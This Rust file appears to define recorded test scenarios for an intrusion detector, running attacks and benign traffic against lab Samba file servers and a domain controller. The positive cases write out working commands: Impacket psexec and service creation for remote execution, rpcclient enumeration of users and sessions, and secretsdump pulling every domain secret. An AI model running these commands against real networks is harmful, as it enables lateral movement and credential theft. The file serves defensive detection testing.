//! Tools against Samba: a file server, and a domain controller of its own domain.

use super::super::Side::{Inside, Outside};
use super::{Expect, NEIGHBOUR_ADDRESS, Recording, SERVER, as_neighbour};

pub(super) fn all() -> Vec<Recording> {
    vec![
        Recording {
            name: "lateral.exec/positive-recorded-impacket-psexec",
            about: "Impacket's psexec and services make a service on a file server, which refuses.",
            expect: vec![Expect::of("lateral.exec", Some(NEIGHBOUR_ADDRESS), Some(SERVER))],
            servers: &[(Inside, FILE_SERVER)],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "export HOME=$PWD; E=/usr/share/doc/python3-impacket/examples; W=root:Secret-17@192.168.10.5; \
                     timeout 60 /usr/bin/python3 $E/psexec.py $W whoami; timeout 60 /usr/bin/python3 $E/services.py $W \
                     create -name update -display update -path 'c:\\update.exe'; true",
                ),
            ],
        },
        Recording {
            name: "lateral.exec/benign-recorded-net-rpc",
            about: "Samba's net lists the services, printers and shares of a file server, as a monitor does.",
            expect: vec![],
            servers: &[(Inside, FILE_SERVER)],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "export HOME=$PWD; for i in 1 2 3; do for what in 'service list' 'service status Spooler' info; do \
                     net rpc $what -s /dev/null -S 192.168.10.5 -U root%Secret-17; done; sleep 2; done; true",
                ),
            ],
        },
        Recording {
            name: "lateral.session/positive-recorded-rpcclient",
            about: "smbclient and rpcclient list shares, accounts and sessions of nine addresses.",
            expect: vec![Expect::of("lateral.session", Some(NEIGHBOUR_ADDRESS), None)],
            servers: &[(Inside, FILE_SERVER)],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "export HOME=$PWD; for i in $(seq 11 19); do smbclient -s /dev/null -U root%Secret-17 -L //192.168.10.$i; \
                     rpcclient -s /dev/null -U root%Secret-17 192.168.10.$i -c 'netshareenumall; enumdomusers; netsessenum'; \
                     done; true",
                ),
            ],
        },
        Recording {
            name: "lateral.session/benign-recorded-smbclient",
            about: "smbclient copies sixty files to a file server's share and lists them.",
            expect: vec![],
            servers: &[(Inside, FILE_SERVER)],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "export HOME=$PWD; mkdir docs; for i in $(seq 60); do head -c 1500 /dev/urandom >docs/letter$i.odt; done; \
                     smbclient -s /dev/null -U root%Secret-17 //192.168.10.11/files \
                     -c 'prompt off; recurse on; mput docs; ls docs/*'",
                ),
            ],
        },
        Recording {
            name: "ad.abuse/positive-recorded-impacket-secretsdump",
            about: "Impacket's secretsdump asks a domain controller (Samba) for all secrets, as another controller would.",
            expect: vec![Expect::of("ad.abuse", Some(NEIGHBOUR_ADDRESS), Some(SERVER))],
            servers: &[(Inside, DOMAIN_CONTROLLER)],
            acts: &[
                (Outside, as_neighbour!()),
                (
                    Outside,
                    "for i in $(seq 300); do [ -e ready ] && break; sleep 1; done; sleep 12; export HOME=$PWD; timeout 90 \
                     /usr/bin/python3 /usr/share/doc/python3-impacket/examples/secretsdump.py -just-dc \
                     -dc-ip 192.168.10.5 CITY/Administrator:Secret-1789@192.168.10.5; true",
                ),
            ],
        },
    ]
}

/// Encryption of SMB 3, which Impacket takes whenever it is offered, would hide what is done.
const FILE_SERVER: &str = r#"mkdir -p private state files admin; chmod 777 files admin; printf '%s\n' '[global]' \
    'workgroup = CITY' 'netbios name = FILESERVER' 'map to guest = Bad User' 'smb ports = 445' \
    'server smb encrypt = off' 'load printers = no' 'admin users = root' "private dir = $PWD/private" \
    "state directory = $PWD/state" "cache directory = $PWD/state" "lock directory = $PWD/state" \
    "pid directory = $PWD/state" "ncalrpc dir = $PWD/state/ncalrpc" "log file = $PWD/log.%m" \
    "passdb backend = tdbsam:$PWD/private/passdb.tdb" '[files]' "path = $PWD/files" 'read only = no' \
    '[ADMIN$]' "path = $PWD/admin" 'read only = no' >smb.conf; \
    printf 'Secret-17\nSecret-17\n' | smbpasswd -c $PWD/smb.conf -s -a root; \
    for i in $(seq 11 19); do ip addr add 192.168.10.$i/24 dev sk-in; done; exec smbd -F -s $PWD/smb.conf"#;
const DOMAIN_CONTROLLER: &str = r"export PATH=/usr/sbin:/usr/bin:/sbin:/bin; samba-tool domain provision \
    --realm=CITY.EXAMPLE --domain=CITY --adminpass=Secret-1789 --server-role=dc --dns-backend=SAMBA_INTERNAL \
    --host-ip=192.168.10.5 --host-name=dc1 --targetdir=$PWD/dc --option='interfaces=lo 192.168.10.5' \
    --option='bind interfaces only=yes'; touch ready; exec samba -F -s $PWD/dc/etc/smb.conf \
    --option='server services=s3fs, rpc, wrepl, ldap, cldap, kdc, drepl, winbindd, ntp_signd, kcc, dnsupdate'";
